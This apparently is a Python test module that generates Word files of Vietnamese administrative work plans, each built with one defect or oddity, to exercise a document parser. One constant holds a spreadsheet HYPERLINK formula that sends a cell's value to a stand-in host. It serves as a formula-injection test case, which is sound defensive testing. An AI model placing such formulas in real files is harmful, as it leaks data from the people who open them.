"""Word files, each named for what is wrong with it or odd in it; ``corpus.expected`` says what they are answered."""

import unicodedata

import docx
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from tests.plans.corpus import base
from tests.plans.corpus.base import FIRST, HEADINGS, ROWS, SECOND, changed
from tests.plans.documents import fill, repacked, saved
from tests.plans.marked import element

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
INJECTION = '=HYPERLINK("http://xau.example/?" & A1, "Bấm vào đây")'


def cover(document, subject=base.SUBJECT, kind=base.KIND):
    head = document.add_table(rows=1, cols=2)
    head.cell(0, 0).text, head.cell(0, 1).text = base.AUTHORITY, base.MOTTO
    for text in (kind, subject, base.BASIS):
        document.add_paragraph(text)


def closing(document):
    foot = document.add_table(rows=1, cols=2)
    foot.cell(0, 0).text, foot.cell(0, 1).text = base.RECIPIENTS, base.SIGNATURE


def plan(*tables, **cover_words):
    """A plan with one annex; a text in a table's place becomes a paragraph."""
    document = docx.Document()
    cover(document, **cover_words)
    closing(document)
    for text in base.ANNEX:
        document.add_paragraph(text)
    for table in tables or (ROWS,):
        if isinstance(table, str):
            document.add_paragraph(table)
        else:
            fill(document, table, 6 if table[0] == HEADINGS else None)
    return document


def sound():
    return saved(plan())


def decomposed():
    return saved(plan([tuple(unicodedata.normalize("NFD", text) for text in row) for row in ROWS]))


def capital_headings():
    return saved(plan([tuple(text.upper() for text in HEADINGS), FIRST, SECOND]))


def headings_without_accents():
    plain = ("TT", "Noi dung cong viec", "Co quan chu tri", "Co quan phoi hop", "Du kien san pham", "Thoi gian")
    return saved(plan([plain, FIRST, SECOND]))


def two_heading_rows():
    upper = ("TT", "Nội dung", "Cơ quan thực hiện", "Cơ quan thực hiện", "Sản phẩm", "Thời gian")
    lower = ("TT", "Nội dung", "Chủ trì", "Phối hợp", "Sản phẩm", "Thời gian")
    document = plan([upper, lower, FIRST, SECOND])
    table = document.tables[-1]
    for column in (0, 1, 4, 5):
        text = table.cell(0, column).text
        table.cell(0, column).merge(table.cell(1, column)).text = text
    table.cell(0, 2).merge(table.cell(0, 3)).text = "Cơ quan thực hiện"
    return saved(document)


def headings_at_each_page():
    return saved(plan([HEADINGS, FIRST, HEADINGS, SECOND]))


def column_numbers_and_blank_rows():
    blank = ("",) * 6
    return saved(plan([HEADINGS, tuple(f"({number})" for number in range(1, 7)), blank, FIRST, blank, SECOND, blank]))


def continued_in_another_table():
    return saved(plan([HEADINGS, FIRST], [SECOND]))


def merged_group_rows():
    return saved(plan([HEADINGS, ("I. CẢI CÁCH THỦ TỤC",), FIRST, SECOND]))


def groups_in_two_cells():
    return saved(plan([HEADINGS, ("I", "CẢI CÁCH THỦ TỤC", "", "", "", ""), FIRST, SECOND]))


def nested_table():
    document = plan()
    inner = document.tables[-1].cell(1, 1).add_table(rows=1, cols=2)
    inner.cell(0, 0).text, inner.cell(0, 1).text = "cấp xã", "cấp tỉnh"
    return saved(document)


def text_box():
    document = plan()
    box = (
        f"<w:p {nsdecls('w')}><w:r><w:pict><v:shape xmlns:v='urn:schemas-microsoft-com:vml'><v:textbox>"
        "<w:txbxContent><w:p><w:r><w:t>DỰ THẢO LẦN 2</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape>"
        "</w:pict></w:r></w:p>"
    )
    document.element.body.insert(0, parse_xml(box))
    return saved(document)


def hidden_text():
    """Words in a task's cell and a whole paragraph."""
    document = plan()
    task, basis = document.tables[-1].cell(1, 1).paragraphs[0], document.paragraphs[2]
    for paragraph, text in ((task, " (chờ ý kiến)"), (basis, " (bỏ)")):
        paragraph.add_run(text).font.hidden = True
    return saved(document)


def hidden_by_style():
    """As a text copied from a web page has it: a style that is based on a hidden one."""
    document = plan()
    parent = document.styles.add_style("z-Top of Form", WD_STYLE_TYPE.PARAGRAPH)
    parent.font.hidden = True
    child = document.styles.add_style("z-Bottom of Form", WD_STYLE_TYPE.PARAGRAPH)
    child.base_style = parent
    document.tables[-1].cell(1, 1).add_paragraph("Đầu biểu mẫu", child)
    return saved(document)


def hidden_rows():
    document = plan([HEADINGS, FIRST, SECOND, changed(SECOND, number="3", content="Việc đang ẩn"), ("",) * 6])
    for row in document.tables[-1].rows[3:]:
        row._tr.get_or_add_trPr().append(element("w:hidden"))
    return saved(document)


def comments():
    document = plan()
    document.add_comment(document.tables[-1].cell(1, 1).paragraphs[0].runs, "Chuyển sang quý III?", "Lan")
    return saved(document)


def notes(kind):
    """A note to a task, one to the text, and one without words."""
    document = plan()
    cell = document.tables[-1].cell(1, 1).paragraphs[0]
    for number, paragraph in enumerate((cell, cell, document.paragraphs[2]), start=1):
        paragraph.add_run()._r.append(element(f"w:{kind}Reference", id=number))
    texts = enumerate((" ", "Theo Quyết định 766", "Bổ sung"), start=1)
    written = "".join(
        f'<w:{kind} w:id="{number}"><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:{kind}>' for number, text in texts
    )
    part = f'<w:{kind}s xmlns:w="{WORD}"><w:{kind} w:id="-1" w:type="separator"/>{written}</w:{kind}s>'
    return repacked(saved(document), add={f"word/{kind}s.xml": part.encode()})


def header_and_footer():
    document = plan()
    section = document.sections[0]
    section.header.paragraphs[0].text, section.footer.paragraphs[0].text = "2", "Kế hoạch KSTTHC"
    return saved(document)


def tracked_changes():
    document = plan()
    paragraph = document.tables[-1].cell(1, 1).paragraphs[0]._p
    for kind, text, words in (("ins", "t", " nội bộ"), ("del", "delText", " cũ")):
        change = f'<w:{kind} {nsdecls("w")} w:id="1" w:author="A"><w:r><w:{text}>{words}</w:{text}></w:r></w:{kind}>'
        paragraph.append(parse_xml(change))
    return saved(document)


def no_table():
    document = docx.Document()
    cover(document)
    return saved(document)


def tables_of_something_else():
    document = docx.Document()
    document.add_paragraph(base.KIND)
    document.add_paragraph(base.SUBJECT)
    fill(document, [("Họ tên", "Ngày sinh"), ("Nguyễn Văn A", "01/01/1980")])
    return saved(document)


def another_table_after_the_plan():
    return saved(plan(ROWS, "Biểu số liệu", [("Xã", "Năm", "Số", "Tỷ lệ"), ("A", "2024", "12", "80%")]))


def two_plans():
    document = plan()
    cover(document, "Cải cách hành chính năm 2025")
    closing(document)
    for text in base.ANNEX:
        document.add_paragraph(text)
    fill(document, ROWS)
    return saved(document)


def no_tasks():
    return saved(plan([HEADINGS, ("",) * 6]))


def no_year():
    document = docx.Document()
    for text in (base.KIND, "Kiểm soát thủ tục hành chính"):
        document.add_paragraph(text)
    fill(document, ROWS)
    return saved(document)


def december(subject="Kiểm soát thủ tục hành chính"):
    """Signed in the weeks before the year that it is for."""
    document = plan(subject=subject)
    document.tables[0].cell(0, 1).text = base.MOTTO.replace("03 tháng 01 năm 2025", "30 tháng 12 năm 2024")
    return saved(document)


def no_title():
    return saved(plan(kind="BÁO CÁO"))


def task_without_content():
    return saved(plan([HEADINGS, FIRST, changed(SECOND, content="")]))


def number_left_out():
    return saved(plan([HEADINGS, FIRST, changed(SECOND, number="4")]))


def no_lead():
    return saved(plan([HEADINGS, changed(FIRST, leads=""), SECOND]))


def lead_coordinates_itself():
    return saved(plan([HEADINGS, changed(FIRST, coordinators="VP UBND"), SECOND]))


def unknown_party():
    return saved(plan([HEADINGS, changed(FIRST, coordinators="Tổ Mây Trắng"), SECOND]))


def no_coordinator_in_words():
    return saved(plan([HEADINGS, changed(FIRST, coordinators="Không"), changed(SECOND, coordinators="-")]))


def impossible_date():
    return saved(plan([HEADINGS, changed(FIRST, schedule="Trước ngày 30/2"), SECOND]))


def schedule_of_another_year():
    return saved(plan([HEADINGS, changed(FIRST, schedule="Tháng 6 năm 2026"), SECOND]))


def schedule_nobody_understands():
    return saved(plan([HEADINGS, changed(FIRST, schedule="Lúc nào đó"), SECOND]))


def unknown_column():
    rows = [(*row, extra) for row, extra in zip(ROWS, ("Kinh phí", "2 triệu", ""), strict=True)]
    return saved(plan(rows))


def missing_column():
    return saved(plan([row[:4] + row[5:] for row in ROWS]))


def note_column():
    return saved(plan([(*row, extra) for row, extra in zip(ROWS, ("Ghi chú", "Gấp", ""), strict=True)]))


def start_and_end_in_two_columns():
    times = (("Từ ngày", "Đến ngày"), ("01/4/2025", "30/6/2025"), ("01/3/2025", "31/3/2025"))
    return saved(plan([row[:5] + time for row, time in zip(ROWS, times, strict=True)]))


def formula_as_text():
    return saved(plan([HEADINGS, changed(FIRST, content=INJECTION), SECOND]))


def rows_5000():
    """Written as XML: five thousand rows take python-docx a minute."""
    document = plan()
    rows = (changed(FIRST, number=str(number), content=f"Việc {number * number}") for number in range(3, 5_001))
    written = "".join(
        "<w:tr>" + "".join(f"<w:tc><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>" for text in row) + "</w:tr>"
        for row in rows
    )
    document.tables[-1]._tbl.extend(list(parse_xml(f"<w:tbl {nsdecls('w')}>{written}</w:tbl>")))
    return saved(document)


FILES = {
    "a sound plan.docx": sound,
    "decomposed letters.docx": decomposed,
    "headings in capitals.docx": capital_headings,
    "headings without accents.docx": headings_without_accents,
    "two heading rows.docx": two_heading_rows,
    "headings at each page.docx": headings_at_each_page,
    "column numbers and blank rows.docx": column_numbers_and_blank_rows,
    "continued in another table.docx": continued_in_another_table,
    "groups in merged rows.docx": merged_group_rows,
    "groups in two cells.docx": groups_in_two_cells,
    "nested table.docx": nested_table,
    "text box.docx": text_box,
    "hidden text.docx": hidden_text,
    "hidden by its style.docx": hidden_by_style,
    "hidden rows.docx": hidden_rows,
    "comments.docx": comments,
    "footnotes.docx": lambda: notes("footnote"),
    "endnotes.docx": lambda: notes("endnote"),
    "header and footer.docx": header_and_footer,
    "tracked changes.docx": tracked_changes,
    "no table at all.docx": no_table,
    "tables of something else.docx": tables_of_something_else,
    "another table after the plan.docx": another_table_after_the_plan,
    "two plans.docx": two_plans,
    "headings and no tasks.docx": no_tasks,
    "no year.docx": no_year,
    "signed before its year.docx": lambda: december(base.SUBJECT),
    "signed in December without a year.docx": december,
    "signed in December with its year said.docx": december,
    "another year said.docx": sound,
    "no title.docx": no_title,
    "task without content.docx": task_without_content,
    "number left out.docx": number_left_out,
    "no lead.docx": no_lead,
    "lead coordinates itself.docx": lead_coordinates_itself,
    "unknown party.docx": unknown_party,
    "no coordinator in words.docx": no_coordinator_in_words,
    "impossible date.docx": impossible_date,
    "schedule of another year.docx": schedule_of_another_year,
    "schedule nobody understands.docx": schedule_nobody_understands,
    "unknown column.docx": unknown_column,
    "missing column.docx": missing_column,
    "note column.docx": note_column,
    "start and end in two columns.docx": start_and_end_in_two_columns,
    "formula as text.docx": formula_as_text,
    "5,000 rows.docx": rows_5000,
}
